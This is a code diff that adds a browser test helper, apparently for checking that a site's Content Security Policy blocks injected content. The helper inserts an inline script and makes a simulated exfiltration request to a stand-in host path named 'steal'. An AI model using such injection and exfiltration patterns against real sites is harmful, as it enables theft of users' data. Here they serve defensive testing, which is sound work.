@@ -505,3 +505,29 @@ export async function serveFixtureSite(): Promise<{
     },
   };
 }
+
+/**
+ * Tries what an injected payload would: an inline script and a request to a remote origin.
+ * Returns whether either got through, and the CSP directives that stopped them.
+ */
+export async function tryInjection(
+  page: Page,
+): Promise<{ inlineScriptRan: boolean; remoteFetched: boolean; blocked: string[] }> {
+  return page.evaluate(async () => {
+    const blocked: string[] = [];
+    document.addEventListener('securitypolicyviolation', (e) => blocked.push(e.effectiveDirective));
+    const w = window as unknown as { __citemapInjected?: boolean };
+    const script = document.createElement('script');
+    script.textContent = 'window.__citemapInjected = true';
+    document.body.append(script);
+    let remoteFetched = false;
+    try {
+      await fetch('https://example.invalid/steal');
+      remoteFetched = true;
+    } catch {
+      remoteFetched = false;
+    }
+    await new Promise((r) => setTimeout(r, 100));
+    return { inlineScriptRan: w.__citemapInjected === true, remoteFetched, blocked };
+  });
+}
